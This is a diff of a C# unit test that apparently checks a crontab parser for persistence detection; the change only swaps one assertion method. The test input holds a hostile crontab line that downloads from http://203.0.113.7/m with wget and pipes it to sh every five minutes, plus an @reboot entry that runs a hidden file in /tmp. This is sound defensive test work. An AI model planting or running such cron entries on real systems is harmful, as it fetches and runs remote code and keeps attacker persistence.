@@ -25,7 +25,7 @@ public sealed class PersistenceFactsTests
     public void Crontab_GivesOneFactPerJob_AndTheHostOfADownload_ThroughCronVariables()
     {
         var facts = Facts(s => ScriptFacts.ReadCrontab("# m h dom mon dow\nSRC=http://203.0.113.7/m\n30 3 * * 0   reboot\n*/5 * * * * wget -q $SRC -O- | sh\n@reboot /tmp/.x\n", s));
-        Assert.AreEqual(5, facts.Count, string.Join("\n", facts));
+        Assert.HasCount(5, facts, string.Join("\n", facts));
         Assert.AreEqual(3, facts.Keys.Count(k => k.StartsWith("cfg.scheduler.cron.") && !k.EndsWith(".fetch")));
         Assert.IsTrue(facts.ContainsValue("30 3 * * 0"));
         Assert.IsTrue(facts.Any(f => f.Key.EndsWith(".fetch") && f.Value == "203.0.113.7"));
